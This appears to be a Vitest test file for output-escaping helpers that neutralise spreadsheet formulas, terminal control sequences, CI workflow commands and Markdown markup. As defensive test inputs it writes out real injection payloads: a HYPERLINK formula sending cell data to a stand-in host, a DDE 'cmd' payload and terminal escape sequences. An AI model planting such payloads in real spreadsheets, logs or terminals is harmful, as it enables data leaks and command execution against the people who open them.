// Text from the data made safe for spreadsheets, terminals, Markdown and CI logs.
import { describe, expect, it } from 'vitest';
import { csvCell, markdownText, noFormula, terminalText } from '../../src/cli/reporters/escape.js';

describe('spreadsheet cells (issue 9, defect 3)', () => {
  it('neutralises what Excel and LibreOffice would run as a formula', () => {
    for (const s of ['=HYPERLINK("http://x.example/?"&A1,"Bấm")', "+cmd|' /C calc'!A0", '@SUM(A1:A9)', '-2+3', '\t=1', '\r=1']) {
      expect(noFormula(s)).toBe(`'${s}`);
    }
    expect(noFormula('Dân vận khéo')).toBe('Dân vận khéo');
    expect(noFormula('a=b')).toBe('a=b');
    expect(noFormula('')).toBe('');
  });

  it('quotes a neutralised cell, and one with a separator, a quote or a line break', () => {
    expect(csvCell('=1+1')).toBe(`"'=1+1"`);
    expect(csvCell('=HYPERLINK("x")')).toBe(`"'=HYPERLINK(""x"")"`);
    expect(csvCell('a;b')).toBe('"a;b"');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('a"b')).toBe('"a""b"');
    expect(csvCell('a\nb')).toBe('"a\nb"');
    expect(csvCell('a\rb')).toBe('"a\rb"');
    expect(csvCell('Tốt')).toBe('Tốt');
  });
});

describe('terminal, CI and Markdown text (issue 9, defect 9)', () => {
  it('shows control characters, line breaks and bidirectional overrides instead of sending them', () => {
    expect(terminalText('\u001b]0;pwned\u0007\u001b[2J')).toBe('\\u{1b}]0;pwned\\u{7}\\u{1b}[2J');
    expect(terminalText('a\n::warning file=x::y')).toBe('a\\u{a}::warning file=x::y');
    expect(terminalText('abc\u202edef\r\u0000\u2028\u0085')).toBe('abc\\u{202e}def\\u{d}\\u{0}\\u{2028}\\u{85}');
    expect(terminalText('Dân vận khéo\ttab')).toBe('Dân vận khéo\ttab');
    expect(terminalText('Đạt 100%')).toBe('Đạt 100%');
  });

  it('keeps a name from making a link, an image, HTML, code or a mention in Markdown', () => {
    expect(markdownText('[bấm](http://x.example) ![a](b) <img src=x> `code` @octocat a|b\nc')).toBe(
      '\\[bấm\\](http://x.example) !\\[a\\](b) \\<img src=x\\> \\`code\\` @\u2060octocat a\\|b c',
    );
    expect(markdownText('Mô hình (TDP Bến)')).toBe('Mô hình (TDP Bến)');
  });
});
